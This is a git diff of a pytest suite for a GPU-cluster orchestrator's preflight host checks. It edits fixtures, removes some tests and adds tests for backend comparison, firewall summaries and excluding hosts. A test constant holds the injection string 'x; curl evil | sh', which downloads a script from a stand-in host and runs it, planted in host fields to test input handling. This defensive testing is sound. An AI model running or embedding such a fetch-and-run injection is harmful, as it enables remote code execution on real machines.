@@ -12,8 +12,10 @@ import pytest
 
 from orchestrator import checks, wire
 from orchestrator.checks import Evidence, HostReport, Needs
+from orchestrator.checks.cluster import without
 from orchestrator.events import CheckReported, Level, PairReported
 from orchestrator.model import EnvironmentPlan, FrameworkName, Host, Role
+from orchestrator.render.preflight import preflight_table
 from tests.golden import matches_golden
 
 NEEDS = Needs(needed=True, legacy_keras=True)
@@ -39,10 +41,13 @@ def report(name: str = "gpu-01", **changes: Any) -> HostReport:
         "packages": {"tensorflow": "2.21.0", "tf-keras": "2.21.0", "keras": "3.15.1", "numpy": "2.4.6"},
         "r": None,
         "setup": None,
-        "disk": {"state": disk, "workdir": {**disk, "path": "/home/t/o", "writable": True, "error": ""}},
+        "disk": {
+            "state": disk["free"],
+            "workdir": {**disk, "path": "/home/t/o", "writable": True, "error": ""},
+        },
         "gpus": [],
         "addresses": [{"name": "lo", "ip": "127.0.0.1"}, {"name": "eth0", "ip": f"10.0.0.{number}"}],
-        "answers": {"rsync": "/usr/bin/rsync", "port": "32768\t60999\n", "linger": "b false"},
+        "answers": {"port": "32768\t60999\n", "linger": "b false"},
     }
     listen: dict[str, Any] = {"listening": [2222], "busy": []}
     made = HostReport(
@@ -96,7 +101,7 @@ def in_words(results: Sequence[CheckReported]) -> str:
 
 
 def test_a_good_host_is_well_in_every_way() -> None:
-    results = examined(report(), report("gpu-02"), shared=(("gpu-01", "gpu-02"),))
+    results = examined(report(), report("gpu-02"))
     assert {each.level for each in results} == {Level.OK}
     rows = "".join(f"{each.check}: {each.found}\n" for each in results if each.host == "gpu-01")
     matches_golden("checks/good.txt", rows)
@@ -106,7 +111,7 @@ W, F = Level.WARN, Level.FAIL
 GPUS = [{"index": i, "name": "A100", "memory": 80 << 30} for i in range(2)]
 STATE_ERROR = {"kind": "state", "what": "the state folder is on NFS", "why": "no locks", "hint": ""}
 LEASE = {"run": "tidy-otter", "task": "worker/0", "owner": "ann@laptop", "since": 1.0}
-SMALL = {"free": 4 * 10**9}
+SMALL = 4 * 10**9
 DEAD = {"path": None, "version": None, "ok": False, "error": "/x/python: No such file"}
 DF = "Filesystem 1024-blocks Used Available Capacity Mounted\nshm 65536 0 65536 0% /shm"
 DEBIAN = {"version": "4.2.2", "reticulate": "1.28", "jsonlite": "1.8.4", "error": ""}
@@ -133,7 +138,6 @@ ALONE: list[dict[str, Any]] = [
     {"facts__packages__tensorflow": "2.21.1"},
     {"facts__python__version": "3.10.4"},
     {"facts__packages__numpy": "1.26.4"},
-    {"facts__answers__rsync": ""},
     {"facts__gpus": GPUS, "host__devices": ("0", "1"), "facts__answers__shm": DF},
     {"hello__state_error": STATE_ERROR},
     {"facts__disk__workdir__writable": False, "facts__disk__workdir__error": "Read-only file system"},
@@ -169,6 +173,13 @@ def test_what_is_wrong_with_a_host_is_told() -> None:
     matches_golden("checks/hosts.txt", text)
 
 
+def test_what_a_framework_is_built_with_is_compared() -> None:
+    usual, other = "CUDA 12.8, NCCL 2.27.5, gloo", "CUDA 12.6, NCCL 2.26.2, gloo"
+    builds = {"gpu-01": usual, "gpu-02": other, "gpu-03": usual}
+    hosts = (replace(report(name), imported=imports(WELL, built=built)) for name, built in builds.items())
+    matches_golden("checks/backend.txt", in_words(examined(*hosts)))
+
+
 def changed_all(made: HostReport, changes: dict[str, Any]) -> HostReport:
     """Apply changes of which one may be what was imported."""
     others = {key: value for key, value in changes.items() if key != "imported"}
@@ -188,7 +199,7 @@ FINE: list[dict[str, Any]] = [
         ]
     },
     {"host__address": "node-1.example.org"},
-    {"facts__answers": {"rsync": "x", "linger": "", "shm": "df: no such", "port": "?"}},
+    {"facts__answers": {"linger": "", "shm": "df: no such", "port": "?"}},
 ]
 
 
@@ -229,15 +240,6 @@ def test_what_env_makes_is_mended_by_setup() -> None:
         results = examined(*hosts, changed_all(report("gpu-02", **own), changes), needs=needs)
         text += f"{changes}\n{in_words(results)}\n"
     matches_golden("checks/env.txt", text)
-
-
-def test_one_machine_under_two_names_needs_two_ports() -> None:
-    first, twin = report("gpu-01"), report("gpu-02", hello__boot_id="gpu-01")
-    assert of_level(examined(first, twin), F) == [("gpu-02", "machine", "is gpu-01 under another name")]
-    apart = examined(first, changed(twin, ports=(2223,)))
-    assert ("gpu-02", "machine", "same as gpu-01") in of_level(apart, Level.OK)
-    contained = changed(twin, hello__netns="net:[2]")
-    assert not [one for one in examined(first, contained) if one.check == "machine"]
 
 
 def test_one_machine_under_two_names_needs_two_state_folders() -> None:
@@ -325,17 +327,6 @@ def test_closed_ports_beside_the_task_port_are_an_error_of_nccl() -> None:
     assert (failure.host, failure.check) == ("b", "nccl")
 
 
-def test_a_name_that_means_the_loopback_is_wrong_and_nothing_else_is_told() -> None:
-    hosts = [report("gpu-01", host__address="four.test"), report("gpu-02")]
-    pairs = [
-        PairReported("gpu-01", "gpu-01", "four.test:2222", True, 0.1, None, "", "127.0.1.1"),
-        PairReported("gpu-02", "gpu-01", "four.test:2222", False, None, None, T, "10.0.0.1"),
-    ]
-    assert of_level(examined(*hosts, pairs=pairs), F) == [
-        ("gpu-01", "address", "four.test means 127.0.1.1 on gpu-01")
-    ]
-
-
 EVIL = "x; curl evil | sh"
 MORE = [{"name": "ib0", "ip": "10.1.0.1"}, {"name": "ib1", "ip": "10.2.0.1"}]
 
@@ -344,12 +335,8 @@ MORE = [{"name": "ib0", "ip": "10.1.0.1"}, {"name": "ib1", "ip": "10.2.0.1"}]
     "changes",
     [
         {"facts__python__path": EVIL, "facts__packages": {}},
-        {"hello__user": EVIL, "facts__answers__linger": "b true"},
         {"hello__state_error": {"what": "x", "hint": EVIL}},
         {"host__address": "10.0.0.9", "facts__addresses": [{"name": "eth0", "ip": EVIL}]},
-        {"host__address": "10.0.0.9", "facts__addresses": [{"name": "eth0", "ip": f"10.0.0.7%{EVIL}"}]},
-        {"host__address": "10.0.0.9", "facts__addresses": [{"name": EVIL, "ip": "10.0.0.7"}]},
-        {"host__address": "localhost", "facts__addresses": [{"name": EVIL, "ip": f"8.8.8.8%{EVIL}"}]},
         {"facts__gpus": GPUS, "facts__addresses": [{"name": EVIL, "ip": "10.0.0.1"}, *MORE]},
     ],
 )
@@ -383,22 +370,29 @@ def test_a_job_of_torch_needs_torch_and_no_tensorflow(
     assert not named(results, "tensorflow")
 
 
-def test_what_torch_is_built_with_is_compared() -> None:
-    needs = Needs(needed=True, legacy_keras=False, framework=FrameworkName.TORCH)
-    answer = {"modules": [], "gpus": 1, "importing": "", "ended": "", "signal": None}
-    hosts = [
-        replace(
-            report(host__name=name, facts__packages={"torch": version}),
-            imported=wire.read({**answer, "built": built}, wire.Imported, "imports"),
-        )
-        for name, version, built in (
-            ("a", "2.9.1", "CUDA 12.8, NCCL 2.27.5, gloo"),
-            ("b", "2.9.1", "CUDA 12.8, NCCL 2.27.5, gloo"),
-            ("c", "2.8.0", "CUDA 12.6, NCCL 2.26.2, gloo"),
-        )
-    ]
-    results = examined(*hosts, needs=needs)
-    assert of_level(named(results, "backend"), Level.WARN) == [
-        ("c", "backend", "CUDA 12.6, NCCL 2.26.2, gloo")
-    ]
-    assert ("c", "torch", "2.8.0") in of_level(results, Level.FAIL)
+def test_thirty_firewalls_of_sixty_four_hosts_are_one_error() -> None:
+    names = [f"gpu-{number:02}" for number in range(1, 65)]
+    hosts = [Host(name, name, f"10.0.0.{number}") for number, name in enumerate(names, 1)]
+    pairs = []
+    for source in names:
+        for host in hosts:
+            why = "timed out" if host.name in names[:30] and source != host.name else ""
+            address = f"{host.address}:2222"
+            pairs.append(PairReported(source, host.name, address, not why, None if why else 0.2, None, why))
+    checks = of_pairs(pairs)
+    lines = preflight_table(checks, pairs, 80, hosts=names)
+    assert len(lines) <= 25
+    assert len([line for line in lines if line.startswith("error")]) == 1
+    assert all(len(line) <= 80 for line in lines)
+    assert without(hosts, checks, ()) == tuple(names[:30])
+
+
+def test_who_is_left_out() -> None:
+    hosts = [Host("a", "a", "a", role=Role.CHIEF), *(Host(name, name, name) for name in "bcd")]
+    full = {name: CheckReported(name, "disk", Level.FAIL, "full") for name in "abcd"}
+    assert without(hosts, [CheckReported("b", "disk", Level.WARN, "little")], ()) == ()
+    assert without(hosts, [full["b"]], ()) == ("b",)
+    assert without(hosts, [], ("c",)) == ("c",)
+    assert without(hosts, [full["b"]], ("c",)) == ("b", "c")
+    assert without(hosts, [full["a"]], ()) == (), "the only chief"
+    assert without(hosts, [*full.values()], ()) == ()
